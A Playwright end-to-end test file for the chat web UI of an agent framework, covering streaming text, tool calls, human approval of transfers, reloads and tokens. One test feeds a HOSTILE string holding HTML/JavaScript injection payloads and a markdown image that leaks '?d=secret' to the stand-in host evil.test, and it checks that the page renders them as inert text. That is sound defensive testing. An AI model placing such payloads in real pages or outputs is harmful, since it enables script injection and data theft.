"""A conversation on the page: text as it comes, tools, decisions, reloads, tabs, and text that means harm."""

from __future__ import annotations

import json
import re
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any, Literal

import pytest
from playwright.sync_api import Page, expect
from typing_extensions import TypedDict

import headwater as hw
from headwater.errors import model_error
from headwater.messages import MediaPart
from headwater.teams import Parallel, TeamAgent
from headwater.testing import ScriptedModel, call, fail, media, say, think, wait
from tests.e2e.browser import watch_of
from tests.e2e.stage import Gate

if TYPE_CHECKING:
    from tests.e2e.conftest import Serve, Visit

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


@hw.tool(effect="read")
def weather(city: str) -> dict[str, Any]:
    """Weather of a city."""
    return {"city": city, "degrees": 4}


@hw.tool(requires_approval=True)
def transfer(to: str, amount: int, currency: Literal["EUR", "NOK"] = "EUR", note: str | None = None) -> str:
    """Move money."""
    return f"{amount} {currency} sent to {to}" + (f" ({note})" if note else "")


class Row(TypedDict):
    city: str
    degrees: int


@dataclass
class Report:
    rows: list[Row]


def ask(page: Page, text: str) -> None:
    page.locator("#prompt").fill(text)
    page.keyboard.press("Control+Enter")


def transcript(page: Page) -> str:
    """What the conversation says, in words."""
    return re.sub(r"\s+", " ", page.get_by_role("log").inner_text())


def expect_over(page: Page) -> None:
    expect(page.locator("[data-badge=ended]")).to_be_visible()


def test_text_grows_before_the_end(serve: Serve, visit: Visit) -> None:
    first, second = Gate(), Gate()
    model = ScriptedModel([[say("Once "), wait(first), say("upon a "), wait(second), say("time.")]])
    page = visit(serve(hw.SimpleAgent("teller", model=model)))
    ask(page, "A story, please.")
    text = page.locator(".text").last
    expect(text).to_have_text("Once")
    expect(page.locator(".said")).to_contain_text("A story, please.")
    expect(page.get_by_role("button", name="Stop")).to_be_visible()
    first.open()
    expect(text).to_have_text("Once upon a")
    second.open()
    expect(text).to_have_text("Once upon a time.")
    expect_over(page)
    expect(page.get_by_role("button", name="Send")).to_be_visible()


def test_a_finished_block_is_rendered_while_the_rest_is_still_text(serve: Serve, visit: Visit) -> None:
    gate = Gate()
    model = ScriptedModel([[say("A **bold** word.\n\n", "Not **yet"), wait(gate), say("** it.")]])
    page = visit(serve(hw.SimpleAgent("teller", model=model)))
    ask(page, "Go")
    expect(page.locator(".prose strong")).to_have_text("bold")
    expect(page.locator(".tail")).to_have_text("Not **yet")
    first = page.locator(".prose .done p").first.element_handle()
    gate.open()
    expect(page.locator(".prose strong").nth(1)).to_have_text("yet")
    assert first is not None
    assert first.is_visible()  # the same element: it was not rendered again


def test_a_preamble_is_restyled_the_moment_the_mode_is_known(serve: Serve, visit: Visit) -> None:
    before, after = Gate(), Gate()
    model = ScriptedModel(
        [[say("I look."), wait(before), call("weather", {"city": "Oslo"}, cut=4), wait(after)], [say("It is cold.")]]
    )
    page = visit(serve(hw.ReActAgent("analyst", model=model, tools=[weather])))
    ask(page, "Weather?")
    text = page.locator(".text").first
    expect(text).to_contain_text("I look.")
    expect(text).to_have_class(re.compile("undecided"))
    before.open()
    expect(text).to_have_class(re.compile("commentary"))  # while the model's turn still goes on
    expect(page.locator(".call")).to_contain_text("weather")
    after.open()
    final = page.locator(".text.final")
    expect(final).to_have_text("It is cold.")
    expect(page.locator(".text.commentary")).to_have_count(1)


def test_thinking_is_shown_while_it_comes_and_folds_when_it_is_over(serve: Serve, visit: Visit) -> None:
    gate = Gate()
    model = ScriptedModel([[think("Let me ", "see."), wait(gate), say("Seen.")]])
    page = visit(serve(hw.SimpleAgent("thinker", model=model)))
    ask(page, "Think")
    thinking = page.locator(".thinking")
    expect(thinking).to_contain_text("Let me see.")
    gate.open()
    expect(page.locator(".text.final")).to_have_text("Seen.")
    expect(thinking.get_by_role("button")).to_have_attribute("aria-expanded", "false")
    expect(thinking).not_to_contain_text("Let me see.")
    thinking.get_by_role("button").click()
    expect(thinking).to_contain_text("Let me see.")


def test_a_call_shows_its_arguments_as_they_are_written_its_progress_and_its_result(serve: Serve, visit: Visit) -> None:
    writing, working = Gate(), Gate()

    @hw.tool(effect="write")
    async def dig(context: hw.ToolContext, where: str, metres: int) -> list[dict[str, Any]]:
        """Dig."""
        context.emit_progress({"percent": 40, "message": "through clay"})
        await working.wait()
        return [{"metre": 1, "found": "clay"}, {"metre": 2, "found": "rock"}]

    @hw.tool(effect="write")
    def crash() -> str:
        """Fail."""
        raise RuntimeError("the shovel broke")

    raw = json.dumps({"where": "garden", "metres": 2})
    model = ScriptedModel([[call("dig", raw, cut=9), wait(writing), call("crash")], [say("Dug.")]])
    page = visit(serve(hw.ReActAgent("digger", model=model, tools=[dig, crash])))
    ask(page, "Dig")
    card = page.locator(".call").first
    expect(card).to_contain_text('{"where": "garden"')
    expect(card).to_have_attribute("aria-label", "dig: being written")
    writing.open()
    expect(card).to_contain_text("through clay")
    expect(card.get_by_role("progressbar")).to_have_attribute("value", "0.4")
    working.open()
    expect(page.locator(".text.final")).to_have_text("Dug.")
    card.get_by_role("button").first.click()
    expect(card.get_by_role("table")).to_contain_text("rock")
    expect(card).to_contain_text("garden")
    failed = page.locator(".call").nth(1)
    expect(failed).to_contain_text("error")
    expect(failed).to_contain_text("the shovel broke")


def test_a_call_is_approved_with_edited_arguments(serve: Serve, visit: Visit) -> None:
    asked = call("transfer", {"to": "ada", "amount": 5})
    model = ScriptedModel([[say("I pay."), asked], [say("Paid.")]])
    page = visit(serve(hw.ReActAgent("bank", model=model, tools=[transfer])))
    ask(page, "Pay Ada")
    card = page.locator(".approval")
    expect(card).to_contain_text("ada")
    expect(page.locator(".badge")).to_contain_text("waits for you")
    card.get_by_role("button", name="Edit").click()
    card.get_by_label("amount", exact=True).fill("7")
    card.locator("#" + str(card.get_by_text("note", exact=True).get_attribute("for"))).click()
    card.get_by_label("note", exact=True).fill("for lunch")
    card.get_by_role("button", name="Approve with changes").click()
    expect(page.locator(".text.final")).to_have_text("Paid.")
    paid = page.locator(".call")
    expect(paid).to_contain_text("approved")
    paid.get_by_role("button").first.click()
    expect(paid).to_contain_text("7 EUR sent to ada (for lunch)")
    expect(paid).to_contain_text("with changes")
    assert model.requests[1].messages[-1].text == "7 EUR sent to ada (for lunch)"  # type: ignore[union-attr]


def test_arguments_that_do_not_fit_are_refused_and_kept_and_may_be_json(serve: Serve, visit: Visit) -> None:
    model = ScriptedModel([[call("transfer", {"to": "ada", "amount": 5})], [say("Paid.")]])
    page = visit(serve(hw.ReActAgent("bank", model=model, tools=[transfer])))
    watch_of(page).allow("409|422|400")
    ask(page, "Pay")
    card = page.locator(".approval")
    card.get_by_role("button", name="Edit").click()
    card.get_by_role("button", name="JSON").click()
    area = card.get_by_label("Arguments")
    area.fill('{"to": "ada", ')
    expect(card.locator(".problem")).to_contain_text("not valid JSON")
    card.get_by_role("button", name="Approve with changes").click()
    area.fill('{"to": "ada", "amount": "many"}')
    card.get_by_role("button", name="Approve with changes").click()
    expect(card.get_by_role("alert")).to_contain_text("do not fit")
    expect(area).to_have_value('{"to": "ada", "amount": "many"}')
    area.fill('{"to": "bob", "amount": 6, "currency": "NOK"}')
    area.press("Control+Enter")
    expect(page.locator(".text.final")).to_have_text("Paid.")
    assert model.requests[1].messages[-1].text == "6 NOK sent to bob"  # type: ignore[union-attr]


def test_arguments_that_a_browser_does_not_have_exactly_are_not_edited_and_run_as_they_are(
    serve: Serve, visit: Visit
) -> None:
    model = ScriptedModel([[call("transfer", {"to": "ada", "amount": 9007199254740993})], [say("Paid.")]])
    page = visit(serve(hw.ReActAgent("bank", model=model, tools=[transfer])))
    ask(page, "Pay")
    card = page.locator(".approval")
    expect(card).to_contain_text("≈ 900719925474099")
    expect(card.get_by_role("button", name="Edit")).to_be_disabled()
    card.get_by_role("button", name="Approve", exact=True).click()
    expect(page.locator(".text.final")).to_have_text("Paid.")
    assert model.requests[1].messages[-1].text == "9007199254740993 EUR sent to ada"  # type: ignore[union-attr]


def test_a_batch_is_decided_one_by_one_and_each_decision_is_kept(serve: Serve, visit: Visit) -> None:
    calls = [call("transfer", {"to": name, "amount": 1}) for name in ("ada", "bob", "eve", "dan")]
    model = ScriptedModel([calls, [say("Some of it.")]])
    page = visit(serve(hw.ReActAgent("bank", model=model, tools=[transfer])))
    ask(page, "Pay all")
    expect(page.locator(".approval")).to_have_count(4)
    page.locator(".call", has_text="bob").get_by_role("button", name="Reject").click()
    page.get_by_label("Why not?").fill("not Bob")
    page.locator(".call", has_text="bob").get_by_role("button", name="Reject").click()
    expect(page.locator(".approval")).to_have_count(3)
    page.reload()
    expect(page.locator(".approval")).to_have_count(3)
    expect(page.locator(".call", has_text="bob").first).to_contain_text("rejected")
    page.locator(".call", has_text="eve").get_by_role("button", name="Respond instead").click()
    page.get_by_label("What the model reads").fill("Eve has it already.")
    page.locator(".call", has_text="eve").get_by_role("button", name="Send").click()
    expect(page.locator(".approval")).to_have_count(2)
    page.locator(".call", has_text="dan").get_by_role("button", name="Skip").click()
    expect(page.locator(".approval")).to_have_count(1)
    page.locator(".approval").get_by_role("button", name="Approve").click()
    expect(page.locator(".text.final")).to_have_text("Some of it.")
    said = [message.text for message in model.requests[1].messages[-4:]]  # type: ignore[union-attr]
    assert said[0] == "1 EUR sent to ada"
    assert "not Bob" in said[1]
    assert said[2] == "Eve has it already."
    assert "skip" in said[3]


def test_a_tools_question_is_answered_in_the_form_of_its_schema(serve: Serve, visit: Visit) -> None:
    @hw.tool(effect="read")
    async def book(context: hw.ToolContext) -> str:
        """Book seats."""
        seats = await context.ask("How many seats?", int)
        window = await context.ask("At the window?", bool)
        return f"{seats} seats, window: {window}"

    model = ScriptedModel([[call("book")], [say("Booked.")]])
    page = visit(serve(hw.ReActAgent("box", model=model, tools=[book])))
    ask(page, "Seats")
    card = page.locator(".approval")
    expect(card).to_contain_text("How many seats?")
    expect(card.get_by_role("button", name="Answer")).to_be_disabled()
    card.get_by_role("spinbutton").fill("2")
    card.get_by_role("spinbutton").press("Enter")
    expect(card).to_contain_text("At the window?")
    card.get_by_role("button", name="Yes").click()
    expect(page.locator(".text.final")).to_have_text("Booked.")
    assert model.requests[1].messages[-1].text == "2 seats, window: True"  # type: ignore[union-attr]


def test_a_reload_in_each_stage_loses_and_doubles_nothing(serve: Serve, visit: Visit) -> None:
    gates = {name: Gate() for name in ("thinking", "preamble", "tool", "answer")}

    @hw.tool(effect="write")
    async def dig(context: hw.ToolContext) -> str:
        """Dig."""
        context.emit_progress("through clay")
        await gates["tool"].wait()
        return "dug"

    model = ScriptedModel(
        [
            [
                think("Hm, "),
                wait(gates["thinking"]),
                think("so."),
                say("I dig "),
                wait(gates["preamble"]),
                say("now."),
                call("dig"),
                call("transfer", {"to": "ada", "amount": 1}),
            ],
            [say("One.\n\n", "Tw"), wait(gates["answer"]), say("o.")],
        ]
    )
    page = visit(serve(hw.ReActAgent("digger", model=model, tools=[dig, transfer])))
    ask(page, "Dig")

    def reloaded(*shown: str) -> None:
        for text in shown:
            expect(page.get_by_role("log")).to_contain_text(text)
        page.reload()
        for text in shown:
            expect(page.get_by_role("log")).to_contain_text(text)
            assert transcript(page).count(text) == 1

    reloaded("Hm,")
    gates["thinking"].open()
    reloaded("I dig")
    expect(page.get_by_role("button", name="Stop")).to_be_visible()
    gates["preamble"].open()
    reloaded("I dig now.", "through clay")
    gates["tool"].open()
    expect(page.locator(".approval")).to_have_count(1)
    reloaded("I dig now.", "Approve this call?")
    page.locator(".approval").get_by_role("button", name="Approve").click()
    reloaded("I dig now.", "One.", "Tw")
    gates["answer"].open()
    expect(page.get_by_role("log")).to_contain_text("Two.")
    expect_over(page)
    reloaded("Dig", "I dig now.", "One.", "Two.")
    expect(page.locator(".call")).to_have_count(2)
    expect(page.locator(".thinking")).to_have_count(1)


def test_stop_ends_the_run_and_keeps_what_was_said(serve: Serve, visit: Visit) -> None:
    gate = Gate()
    model = ScriptedModel([[say("As far as"), wait(gate)], [say("Again.")]])
    page = visit(serve(hw.SimpleAgent("teller", model=model)))
    ask(page, "Go on")
    expect(page.locator(".text")).to_have_text("As far as")
    page.reload()
    expect(page.locator(".text")).to_have_text("As far as")
    page.get_by_role("button", name="Stop").click()
    expect(page.locator(".note")).to_contain_text("Stopped")
    expect(page.locator(".text")).to_contain_text("As far as")
    expect(page.get_by_text("Cut off here")).to_be_visible()
    ask(page, "And now?")
    expect(page.locator(".text.final").last).to_have_text("Again.")


def test_escape_stops(serve: Serve, visit: Visit) -> None:
    model = ScriptedModel([[say("On and on"), wait(Gate())]])
    page = visit(serve(hw.SimpleAgent("teller", model=model)))
    ask(page, "Go")
    expect(page.locator(".text")).to_have_text("On and on")
    page.keyboard.press("Escape")
    expect(page.locator(".note")).to_contain_text("Stopped")


def test_a_run_that_waits_can_be_stopped_too(serve: Serve, visit: Visit) -> None:
    model = ScriptedModel([[call("transfer", {"to": "ada", "amount": 1})]])
    page = visit(serve(hw.ReActAgent("bank", model=model, tools=[transfer])))
    ask(page, "Pay")
    expect(page.locator(".approval")).to_be_visible()
    page.get_by_role("button", name="Stop").click()
    expect(page.locator(".note")).to_contain_text("Stopped")
    expect(page.locator(".approval")).to_have_count(0)
    expect(page.get_by_role("group", name="transfer: cancelled")).to_be_visible()


def test_a_run_that_cannot_be_drawn_takes_nothing_else_along(serve: Serve, visit: Visit) -> None:
    page = visit(serve(hw.SimpleAgent("teller", model=ScriptedModel(["One.", "Two."]))))
    origin = {"run_id": "r", "root_run_id": "r", "agent": "a", "agent_kind": "simple", "path": ["a"]}
    strange = {
        "v": 1,
        "seq": 1,
        "ts": 0,
        "round": 0,
        "origin": origin,
        "type": "run.start",
        "input": [{"role": "user"}],
    }
    body = f"retry: 60000\n\ndata: {json.dumps(strange)}\n\n"
    page.route("**/events?after=0", lambda route: route.fulfill(body=body, content_type="text/event-stream"), times=1)
    ask(page, "One")
    expect(page.locator(".run, .problem").first).to_contain_text("TypeError")
    page.get_by_role("link", name="teller").click()
    ask(page, "Two")
    expect(page.locator(".text.final")).to_have_text("Two.")


def test_two_tabs_show_one_conversation(serve: Serve, visit: Visit) -> None:
    gate = Gate()
    model = ScriptedModel(
        [[call("transfer", {"to": "ada", "amount": 1})], [say("Pa"), wait(gate), say("id.")], [say("Hello.")]]
    )
    served = serve(hw.ReActAgent("bank", model=model, tools=[transfer]))
    one = visit(served)
    ask(one, "Pay")
    expect(one.locator(".approval")).to_be_visible()
    two = visit(served, beside=one, path="/?" + one.url.split("?")[1])
    expect(two.locator(".approval")).to_be_visible()
    two.locator(".approval").get_by_role("button", name="Approve").click()
    for page in (one, two):
        expect(page.locator(".text")).to_contain_text("Pa")
        expect(page.locator(".approval")).to_have_count(0)
    gate.open()
    for page in (one, two):
        expect(page.locator(".text.final")).to_have_text("Paid.")
    ask(one, "Thanks")
    for page in (one, two):
        expect(page.locator(".text.final").last).to_have_text("Hello.")
        expect(page.locator(".said")).to_have_count(2)


HOSTILE = """\
<img src=x onerror="document.title='owned'"><script>document.title='owned'</script>

[click](javascript:document.title='owned') ![leak](http://evil.test/?d=secret) ![own](//evil.test/x.png)

<iframe src="http://evil.test"></iframe><style>*{display:none}</style><form action="/runs"><input></form>

<div class="approval" style="position:fixed">Approve</div>

[link](http://elsewhere.test/)
"""


def test_hostile_text_is_text(serve: Serve, visit: Visit) -> None:
    @hw.tool(effect="read")
    def fetch() -> str:
        """Fetch a page."""
        return HOSTILE

    model = ScriptedModel([[say(HOSTILE), call("fetch")], [say(HOSTILE)]])
    page = visit(serve(hw.ReActAgent("reader", model=model, tools=[fetch])))
    ask(page, "Read it to me.\n\n" + HOSTILE)
    expect_over(page)
    expect(page.locator(".text")).to_have_count(2)
    page.locator(".call-head").click()
    log = page.get_by_role("log")
    expect(log).to_contain_text("<img src=x onerror=")
    for tag in ("img", "script", "iframe", "style", "form", "input"):
        expect(log.locator(f".prose {tag}, .call-body {tag}, .said {tag}")).to_have_count(0)
    expect(log.locator("[style], [onerror]")).to_have_count(0)
    expect(log.locator(".approval")).to_have_count(0)
    assert page.title().startswith("Read it to me.")
    shown = page.locator(".text.final")
    expect(shown.get_by_role("link", name="leak · Image from evil.test")).to_have_attribute(
        "href", "http://evil.test/?d=secret"
    )
    outside = shown.get_by_role("link", name="link", exact=True)
    expect(outside).to_have_attribute("rel", "noopener noreferrer nofollow")
    assert shown.locator("a[href^='javascript']").count() == 0
    assert watch_of(page).foreign == []


def test_failures_limits_and_withdrawn_attempts_are_told_as_they_are(serve: Serve, visit: Visit) -> None:
    broken = model_error("stream_truncated", "The stream ended in the middle.", retryable=True)
    model = ScriptedModel([[say("Half an ans"), fail(broken)], [say("A whole one.")]])
    once = hw.ReActAgent("again", model=model, retry=hw.Retry(base=0, after_output="discard"))
    never = hw.ReActAgent("never", model=ScriptedModel([[say("Half"), fail(broken)]]), retry=hw.Retry(retries=0))
    page = visit(serve([once, never]))
    ask(page, "Go")
    expect(page.locator(".text.final")).to_have_text("A whole one.")
    withdrawn = page.locator(".round.withdrawn")
    expect(withdrawn).to_contain_text("Attempt 1 was withdrawn")
    expect(withdrawn).not_to_contain_text("Half an ans")
    withdrawn.get_by_role("button").click()
    expect(withdrawn).to_contain_text("Half an ans")
    page.get_by_role("link", name="never").click()
    ask(page, "Go")
    expect(page.get_by_role("alert")).to_contain_text("Failed")
    expect(page.get_by_role("alert")).to_contain_text("stream_truncated")
    expect(page.locator(".text")).to_contain_text("Half")


def test_structured_output_is_a_table_and_media_are_shown(serve: Serve, visit: Visit) -> None:
    rows = [{"city": "Oslo", "degrees": 4}, {"city": "Bergen", "degrees": 7}]
    reporter = hw.ReActAgent(
        "reporter", model=ScriptedModel([json.dumps({"value": rows}), json.dumps(rows)]), output_type=list[Row]
    )
    picture = MediaPart(media_type="image/png", data=PIXEL, name="a pixel")
    painter = hw.SimpleAgent("painter", model=ScriptedModel([[say("Here:"), media(picture)]]))
    page = visit(serve([reporter, painter]))
    ask(page, "Weather?")
    expect(page.get_by_role("table")).to_contain_text("Bergen")
    page.get_by_role("link", name="painter").click()
    ask(page, "Paint")
    image = page.get_by_role("img", name="a pixel")
    expect(image).to_be_visible()
    expect(image).to_have_js_property("naturalWidth", 1)
    page.reload()
    expect(image).to_have_js_property("naturalWidth", 1)


def test_a_plan_is_a_checklist_that_moves(serve: Serve, visit: Visit) -> None:
    gate = Gate()
    model = ScriptedModel(
        [
            [call("create_plan", {"steps": ["look", "tell"]})],
            [say("Looking."), wait(gate), call("update_plan_progress", {"next_plan_index": 2})],
            [say("Told.")],
        ]
    )
    page = visit(serve(hw.ReActAgent("planner", model=model, planning=True)))
    ask(page, "Go")
    plan = page.get_by_role("region", name="Plan", exact=True)
    expect(plan).to_contain_text("0/2")
    plan.get_by_role("button").click()
    expect(plan.locator("[aria-current=step]")).to_have_text("look")
    gate.open()
    expect(plan).to_contain_text("All steps done")


def test_members_of_a_team_stand_in_the_conversation(serve: Serve, visit: Visit) -> None:
    gate = Gate()
    writer = hw.ReActAgent("writer", model=ScriptedModel([[say("Roses "), wait(gate), say("are red.")]]))
    critic = hw.ReActAgent("critic", model=ScriptedModel([[say("Too short.")]]))
    page = visit(serve(TeamAgent("newsroom", [writer, critic], protocol=Parallel())))
    ask(page, "A poem")
    member = page.get_by_role("group", name="writer")
    expect(member).to_contain_text("Roses")
    page.reload()
    expect(member).to_contain_text("Roses")
    gate.open()
    expect(page.locator(".text.answer")).to_contain_text("Roses are red.")
    assert transcript(page).count("Roses") == 1  # members fold when the team has its answer
    member.get_by_role("button").first.click()
    expect(member).to_contain_text("Roses are red.")


def test_what_waits_in_an_agent_that_a_call_started_stands_in_that_call(serve: Serve, visit: Visit) -> None:
    asked = call("transfer", {"to": "ada", "amount": 1})
    clerk = hw.ReActAgent("clerk", model=ScriptedModel([[say("I pay."), asked], [say("Paid.")]]), tools=[transfer])
    model = ScriptedModel([[call("ask_clerk", {"task": "Pay Ada."})], [say("Done.")]])
    page = visit(serve(hw.ReActAgent("boss", model=model, tools=[clerk.as_tool("ask_clerk", "Pays.")])))
    ask(page, "Pay Ada")
    outer = page.get_by_role("group", name="ask_clerk: paused")
    expect(outer.locator(".approval")).to_contain_text("boss › clerk")
    page.reload()
    expect(outer.locator(".approval")).to_have_count(1)
    outer.locator(".approval").get_by_role("button", name="Edit").click()
    outer.get_by_label("to", exact=True).fill("bob")
    outer.get_by_role("button", name="Approve with changes").click()
    expect(page.locator(".text.final").last).to_have_text("Done.")
    expect(page.get_by_role("group", name="ask_clerk: done")).to_contain_text("I pay.")
    expect(page.locator(".approval")).to_have_count(0)


def test_finished_blocks_are_read_out_once_and_tokens_are_not(serve: Serve, visit: Visit) -> None:
    gate = Gate()
    model = ScriptedModel([[say("One ", "two.\n\n", "Three"), wait(gate), say(" four.")]])
    page = visit(serve(hw.SimpleAgent("teller", model=model)))
    ask(page, "Go")
    region = page.locator("#announcer p")
    expect(region).to_have_text(["One two."])
    gate.open()
    expect(region).to_have_text(["One two.", "Three four."])
    page.reload()
    expect_over(page)


def test_all_of_it_is_done_by_keyboard(serve: Serve, visit: Visit) -> None:
    model = ScriptedModel([[call("transfer", {"to": "ada", "amount": 1})], [say("Paid.")]])
    page = visit(
        serve([hw.ReActAgent("bank", model=model, tools=[transfer]), hw.SimpleAgent("other", model=ScriptedModel([]))])
    )
    links = page.get_by_role("navigation").get_by_role("link")
    links.nth(0).focus()
    page.keyboard.press("ArrowDown")
    expect(links.nth(1)).to_be_focused()
    page.keyboard.press("ArrowUp")
    page.keyboard.press("Enter")
    page.locator("#prompt").focus()
    page.keyboard.type("Pay")
    page.keyboard.press("Control+Enter")
    expect(page.locator(".approval")).to_be_visible()
    page.get_by_role("button", name="Show", exact=True).focus()
    page.keyboard.press("Enter")
    expect(page.locator(".approval")).to_be_focused()
    page.keyboard.press("Tab")
    expect(page.get_by_role("button", name="Approve", exact=True)).to_be_focused()
    page.keyboard.press("Enter")
    expect(page.locator(".text.final")).to_have_text("Paid.")


def test_a_draft_outlives_a_reload_and_the_focus_is_not_taken_from_who_writes(serve: Serve, visit: Visit) -> None:
    gate = Gate()
    model = ScriptedModel([[wait(gate), call("transfer", {"to": "ada", "amount": 1})], [say("Paid.")]])
    page = visit(serve(hw.ReActAgent("bank", model=model, tools=[transfer])))
    ask(page, "Pay")
    expect(page.get_by_role("button", name="Stop")).to_be_visible()
    page.locator("#prompt").fill("And then")
    page.reload()
    expect(page.locator("#prompt")).to_have_value("And then")
    page.locator("#prompt").focus()
    gate.open()
    expect(page.locator(".approval")).to_be_visible()
    expect(page.locator("#prompt")).to_be_focused()


def test_the_focus_goes_to_what_waits_if_nobody_is_at_work(serve: Serve, visit: Visit) -> None:
    model = ScriptedModel([[call("transfer", {"to": "ada", "amount": 1})]])
    page = visit(serve(hw.ReActAgent("bank", model=model, tools=[transfer])))
    ask(page, "Pay")
    expect(page.locator(".approval")).to_be_visible()
    page.reload()
    expect(page.locator(".approval")).to_be_focused()


def test_a_conversation_of_many_runs_is_read_whole_and_older_runs_on_demand(serve: Serve, visit: Visit) -> None:
    served = serve(hw.SimpleAgent("teller", model=ScriptedModel([[say(f"Answer {n}.")] for n in range(15)])))
    page = visit(served)
    for n in range(15):
        ask(page, f"Question {n}")
        expect(page.locator(".text.final").last).to_have_text(f"Answer {n}.")
    page.reload()
    expect(page.locator(".text.final")).to_have_text([f"Answer {n}." for n in range(3, 15)])
    page.get_by_role("button", name="Show earlier").click()
    expect(page.locator(".text.final")).to_have_text([f"Answer {n}." for n in range(15)])
    page.get_by_role("link", name="teller").click()
    expect(page.locator(".text")).to_have_count(0)
    page.go_back()
    expect(page.locator(".text.final").last).to_have_text("Answer 14.")


def test_the_page_speaks_chinese(serve: Serve, visit: Visit) -> None:
    model = ScriptedModel([[think("嗯"), call("transfer", {"to": "ada", "amount": 1})], [say("好的。\n\n- 一\n- 二")]])
    page = visit(serve(hw.ReActAgent("bank", model=model, tools=[transfer])), language="zh-CN")
    ask(page, "付款")
    page.locator(".approval").get_by_role("button", name="批准").click()
    expect(page.locator(".text.final li")).to_have_text(["一", "二"])
    expect(page.locator("html")).to_have_attribute("lang", "zh-CN")
    page.get_by_role("button", name="English").click()
    expect(page.get_by_role("button", name="Send")).to_be_visible()
    page.reload()
    expect(page.get_by_role("button", name="Send")).to_be_visible()


def test_without_the_token_the_page_asks_for_it(serve: Serve, visit: Visit) -> None:
    served = serve(hw.SimpleAgent("teller", model=ScriptedModel([[say("Hello.")]])))
    token, served.token = served.token, None
    page = visit(served)
    watch_of(page).allow("401")
    expect(page.get_by_label("Token")).to_be_visible()
    page.get_by_label("Token").fill("wrong")
    page.get_by_role("button", name="Enter").click()
    expect(page.get_by_role("alert")).to_contain_text("not the token")
    page.get_by_label("Token").fill(str(token))
    page.get_by_role("button", name="Enter").click()
    ask(page, "Hi")
    expect(page.locator(".text.final")).to_have_text("Hello.")
    assert "token" not in page.url


def test_a_page_whose_token_is_not_taken_any_more_asks_for_it_and_goes_on(serve: Serve, visit: Visit) -> None:
    served = serve(hw.SimpleAgent("teller", model=ScriptedModel([[say("One.")], [say("Two.")]])))
    page = visit(served)
    watch_of(page).allow("401")
    ask(page, "Hi")
    expect(page.locator(".text.final")).to_have_text("One.")
    page.context.clear_cookies()
    ask(page, "More")
    page.get_by_label("Token").fill(str(served.token))
    page.get_by_role("button", name="Enter").click()
    expect(page.locator(".text.final")).to_have_text("One.")
    expect(page.locator("#prompt")).to_have_value("More")
    page.locator("#prompt").press("Control+Enter")
    expect(page.locator(".text.final").last).to_have_text("Two.")


def test_what_was_written_is_kept_while_the_server_is_not_there(serve: Serve, visit: Visit) -> None:
    page = visit(serve(hw.SimpleAgent("teller", model=ScriptedModel([[say("One.")]]))))
    watch_of(page).allow("ERR_INTERNET_DISCONNECTED")
    expect(page.get_by_role("heading", name="teller").first).to_be_visible()
    page.context.set_offline(True)
    ask(page, "Hi")
    expect(page.get_by_role("alert")).to_contain_text("cannot be reached")
    expect(page.locator("#prompt")).to_have_value("Hi")
    page.context.set_offline(False)
    page.locator("#prompt").press("Control+Enter")
    expect(page.locator(".text.final")).to_have_text("One.")
    expect(page.get_by_role("alert")).to_have_count(0)


def test_markdown_that_begins_with_a_bracket_is_markdown_and_json_is_not(serve: Serve, visit: Visit) -> None:
    model = ScriptedModel([[say("[Docs](http://x.test/) say *so*.")], [say('{"a": "*b*"}')]])
    page = visit(serve(hw.SimpleAgent("teller", model=model)))
    ask(page, "One")
    expect(page.locator(".text.final em")).to_have_text("so")
    ask(page, "Two")
    expect(page.locator(".text.final pre")).to_have_text('{"a": "*b*"}')


@pytest.mark.parametrize("width", [390, 1280])
def test_nothing_is_wider_than_the_window(serve: Serve, visit: Visit, width: int) -> None:
    long = (
        "| "
        + " | ".join(["a wide column"] * 12)
        + " |\n|"
        + "---|" * 12
        + "\n\n```\n"
        + "x" * 300
        + "\n```\n\n"
        + "y" * 300
    )
    model = ScriptedModel([[call("transfer", {"to": "z" * 200, "amount": 1})], [say(long)]])
    page = visit(serve(hw.ReActAgent("bank", model=model, tools=[transfer])), width=width)
    ask(page, "w" * 300)
    page.locator(".approval").get_by_role("button", name="Approve", exact=True).click()
    expect_over(page)
    for element in ("html", "[role=log]", ".column"):
        room = page.locator(element).evaluate("(e) => e.scrollWidth - e.clientWidth")
        assert room <= 0, element
